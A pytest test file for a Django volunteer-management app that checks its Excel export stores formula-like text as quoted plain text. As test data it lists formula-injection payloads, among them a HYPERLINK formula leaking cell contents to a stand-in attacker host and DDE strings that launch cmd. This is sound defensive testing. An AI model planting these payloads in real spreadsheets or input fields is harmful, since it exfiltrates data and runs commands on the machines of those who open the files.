"""Excel exports never turn typed text into a formula (OWASP CSV/formula injection)."""

from datetime import date, timedelta
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from brobygger.accounts.roles import Role
from brobygger.lib.spreadsheet import append_row, to_bytes
from brobygger.volunteers.models import Volunteer
from tests import factories
from tests.people import two_factor

HOSTILE = [
    '=HYPERLINK("http://angriber.example/?x="&A1,"Klik")',
    "+45 20 30 40 50",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _reloaded(book: Workbook) -> Workbook:
    return load_workbook(BytesIO(to_bytes(book)))


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_like_a_formula_is_stored_as_text(text):
    book = Workbook()
    append_row(book.active, [text, 42])
    sheet = _reloaded(book).active
    cell, number = sheet["A1"], sheet["B1"]
    assert cell.data_type == "s"
    assert cell.value == text.replace("\r", "\n")  # XML reads a lone CR as a line feed
    assert cell.quotePrefix, "Excel keeps a quote-prefixed cell as text even when edited"
    assert number.data_type == "n" and number.value == 42


def test_ordinary_text_dates_and_numbers_are_untouched():
    book = Workbook()
    append_row(book.active, ["Grethe Hansen", date(2026, 3, 1), 3.5])
    row = _reloaded(book).active[1]
    assert [c.value for c in row][0::2] == ["Grethe Hansen", 3.5]
    assert row[1].value.date() == date(2026, 3, 1)
    assert not row[0].quotePrefix


def test_characters_an_xlsx_file_cannot_hold_are_dropped_not_a_crash():
    book = Workbook()
    append_row(book.active, ["Vil\x0bly\x00", "linje 1\nlinje 2"])
    cells = _reloaded(book).active[1]
    assert [c.value for c in cells] == ["Villy", "linje 1\nlinje 2"]


@pytest.mark.django_db
def test_corps_export_writes_a_hostile_name_as_text(client):
    coordinator = two_factor(factories.user(Role.VOLUNTEER_COORDINATOR))
    quiet_since = date.today() - timedelta(weeks=52)
    Volunteer.objects.create(
        full_name=HOSTILE[0], phone="+45 20 30 40 50", stage="active", stage_since=quiet_since
    )
    client.force_login(coordinator)
    response = client.get(reverse("volunteers:corps"), {"format": "xlsx"})
    sheet = load_workbook(BytesIO(response.content))["Skal ringes op"]
    name, phone = sheet["A2"], sheet["B2"]
    assert (name.value, name.data_type) == (HOSTILE[0], "s")
    assert (phone.value, phone.data_type) == ("+45 20 30 40 50", "s")
    assert name.quotePrefix and phone.quotePrefix
